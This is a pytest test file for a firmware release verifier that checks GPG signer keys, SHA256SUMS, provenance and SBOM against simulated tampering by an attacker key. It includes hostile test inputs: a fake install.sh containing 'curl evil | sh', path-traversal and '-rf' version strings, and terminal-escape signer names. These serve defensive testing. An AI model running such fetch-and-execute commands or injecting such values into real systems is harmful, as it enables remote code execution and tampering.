"""release.verify read as an attacker would: every signer bound to its key in builder-keys/, the
release's own signed SHA256SUMS as the base, a threshold of independent keys, every file of the
release signed or listed. Real gpg keys made here, real files; nothing may change on disk."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from fwenv.config import Config, load_config
from fwenv.engine import Engine
from fwenv.errors import FwenvError
from fwenv.plan import Runner
from fwenv.release.check import verify

pytestmark = pytest.mark.skipif(shutil.which("gpgv") is None, reason="needs gpg and gpgv")
ROOT = Path(__file__).resolve().parents[2]


def cfg_for(tmp: Path, **release: object) -> Config:
    base = load_config(ROOT)
    return Config(root=ROOT, data={**base.data, "output_dir": str(tmp / "output"),
                                   "release": {"dir": str(tmp / "release"), **release}})


def run(tmp: Path, min_signers: int | None = 2, **kw: object) -> dict:
    kw.setdefault("sigs_dir", tmp / "sigs")
    if min_signers is not None:
        kw["min_signers"] = min_signers
    return verify(cfg_for(tmp), Runner(), Engine.on_demand(), version="1.0", **kw)


@pytest.fixture()
def honest(tmp_path: Path, keys, kit) -> Path:
    """An honest release by alice, attested by alice, bob and carol."""
    kit.write_release(tmp_path, keys["alice"])
    for n in ("alice", "bob", "carol"):
        kit.write_signer(tmp_path / "sigs", n, keys[n])
    return tmp_path


def test_honest_release_verifies(honest: Path) -> None:
    out = run(honest)
    assert out["ok"], out["lines"]
    assert [ln.split(" (")[0] for ln in out["lines"]] == [
        "verified: release 1.0", "verified: alice", "verified: bob", "verified: carol"]


def test_tampered_self_consistent_release_with_honest_signers(tmp_path: Path, keys, kit,
                                                              record) -> None:
    """mallory (key in the default keyring, not in builder-keys) ships a consistent release."""
    evil = {**kit.HONEST, "coreboot-build-env-1.0.tar.gz": b"backdoored image\n"}
    kit.write_release(tmp_path, keys["mallory"], evil)
    for n in ("alice", "bob"):
        kit.write_signer(tmp_path / "sigs", n, keys[n])
    before = kit.tree_state(tmp_path)
    out = run(tmp_path)
    assert not out["ok"]
    assert out["lines"][0] == record("release re-signed by a key not in builder-keys/",
        "unknown key: release 1.0 (SHA256SUMS is signed by a key that is not in builder-keys/)")
    assert kit.tree_state(tmp_path) == before


def test_release_signer_tampers_and_the_other_signers_disagree(tmp_path: Path, keys, kit,
                                                               record) -> None:
    """alice's key is in builder-keys, but her release is not what bob and carol rebuilt."""
    evil = {**kit.HONEST, "coreboot-build-env-1.0.tar.gz": b"backdoored image\n"}
    kit.write_release(tmp_path, keys["alice"], evil)
    kit.write_signer(tmp_path / "sigs", "alice", keys["alice"], evil)
    for n in ("bob", "carol"):
        kit.write_signer(tmp_path / "sigs", n, keys[n])
    out = run(tmp_path)
    assert not out["ok"]
    assert record("a builder key signs a release the others did not rebuild", out["lines"][2]) \
        == "differs: bob (coreboot-build-env-1.0.tar.gz differs)"
    assert "too few signers" in out["lines"][-1]


def test_one_key_for_three_signer_names_counts_once(tmp_path: Path, keys, kit, record) -> None:
    kit.write_release(tmp_path, keys["alice"])
    for n in ("alice", "alice2", "alice3"):
        kit.write_signer(tmp_path / "sigs", n, keys["alice"])
    out = run(tmp_path)
    assert not out["ok"]
    assert out["lines"][2].startswith("same key: alice2 (key ")
    assert out["lines"][-1] == record("one key under three signer names, --min-signers 2",
        "too few signers: signers (1 independent signer matches, --min-signers is 2)")


def test_valid_signature_by_a_key_only_in_the_default_keyring(tmp_path: Path, keys, kit, record,
                                                              monkeypatch) -> None:
    """mallory's key is in GNUPGHOME (gpg --verify would accept it) but not in builder-keys."""
    monkeypatch.setenv("GNUPGHOME", str(keys["mallory"].home))
    kit.write_release(tmp_path, keys["alice"])
    kit.write_signer(tmp_path / "sigs", "alice", keys["alice"])
    kit.write_signer(tmp_path / "sigs", "mallory", keys["mallory"], key_file=False)
    out = run(tmp_path)
    assert not out["ok"]
    assert out["lines"][2] == record("signer directory without a key file (key in the default "
                                     "keyring)",
        "unknown signer: mallory (no builder-keys/mallory.gpg or .pub: not verified)")
    assert out["lines"][-1].startswith("too few signers")


def test_signature_by_another_builder_key_in_a_signer_directory(honest: Path, keys, kit,
                                                               record) -> None:
    keys["mallory"].sign(honest / "sigs" / "1.0" / "bob" / "SHA256SUMS")
    out = run(honest)
    assert not out["ok"]
    line = record("bob's directory signed by another key", out["lines"][2])
    assert line.startswith("unknown key: bob (bob's key: signed by key ")


def test_provenance_signature_deleted(honest: Path, kit, record) -> None:
    (honest / "release" / "1.0" / "provenance.json.asc").unlink()
    before = kit.tree_state(honest)
    out = run(honest)
    assert not out["ok"]
    assert out["lines"][0] == record("provenance.json signature deleted",
        "bad signature: release 1.0 (provenance.json has no valid signature by a key in "
        "builder-keys/)")
    assert kit.tree_state(honest) == before


def test_provenance_edited_after_signing(honest: Path, record) -> None:
    p = honest / "release" / "1.0" / "provenance.json"
    p.write_text(p.read_text().replace("release/1", "release/2"))
    out = run(honest)
    assert record("provenance.json edited after signing", out["lines"][0]).startswith(
        "bad signature: release 1.0 (provenance.json has no valid signature")


def test_unlisted_file_is_reported(honest: Path, record) -> None:
    (honest / "release" / "1.0" / "install.sh").write_text("curl evil | sh\n")
    out = run(honest)
    assert not out["ok"]
    assert out["lines"][0] == record("a file SHA256SUMS does not list",
        "unlisted file: release 1.0 (install.sh: not listed in SHA256SUMS)")


def test_sbom_replaced(honest: Path, record) -> None:
    (honest / "release" / "1.0" / "sbom.cdx.json").write_text('{"bomFormat": "forged"}\n')
    out = run(honest)
    assert out["lines"][0] == record("SBOM replaced after signing",
        "differs: release 1.0 (sbom.cdx.json: sha256 differs from SHA256SUMS)")


def test_signer_directory_name_with_terminal_escapes(honest: Path, keys, kit, record) -> None:
    kit.write_signer(honest / "sigs", "\x1b[2J\x1b[1;1Hok", keys["mallory"], key_file=False)
    out = run(honest)
    line = next(ln for ln in out["lines"] if ln.startswith("unknown signer"))
    assert "\x1b" not in line and "\\x1b[2J" in line
    record("signer directory named with terminal escapes", line)


def test_release_without_keys_is_refused(honest: Path, record) -> None:
    shutil.rmtree(honest / "sigs" / "builder-keys")
    with pytest.raises(FwenvError) as e:
        run(honest)
    assert record("sigs tree without builder-keys/", str(e.value)).startswith("no ")


def test_key_file_with_two_keys_is_refused(honest: Path, keys, record) -> None:
    f = honest / "sigs" / "builder-keys" / "bob.gpg"
    f.write_text(f.read_text() + keys["mallory"].public.read_text())
    with pytest.raises(FwenvError) as e:
        run(honest)
    assert "holds 2 keys" in record("a key file holding two keys", str(e.value))


@pytest.mark.parametrize("n", [0, -1, "2", True])
def test_bad_min_signers(honest: Path, n: object, record) -> None:
    with pytest.raises(FwenvError) as e:
        run(honest, min_signers=n)  # type: ignore[arg-type]
    assert "min_signers" in record(f"--min-signers {n!r}", str(e.value))


def test_min_signers_default_comes_from_pyproject(honest: Path) -> None:
    cfg = cfg_for(honest, min_signers=4)
    out = verify(cfg, Runner(), Engine.on_demand(), version="1.0", sigs_dir=honest / "sigs")
    assert out["lines"][-1] == "too few signers: signers (3 independent signers match, " \
                               "--min-signers is 4)"


@pytest.mark.parametrize("version", ["../../etc", "", "1.0/..", "-rf", "a b", "x" * 200])
def test_bad_version_is_refused_before_any_path(tmp_path: Path, version: str, record) -> None:
    with pytest.raises(FwenvError) as e:
        verify(cfg_for(tmp_path), Runner(), Engine.on_demand(), version=version,
               sigs_dir=tmp_path / "sigs")
    assert record(f"release.verify --version {version[:20]!r}", str(e.value)).startswith(
        "bad version")
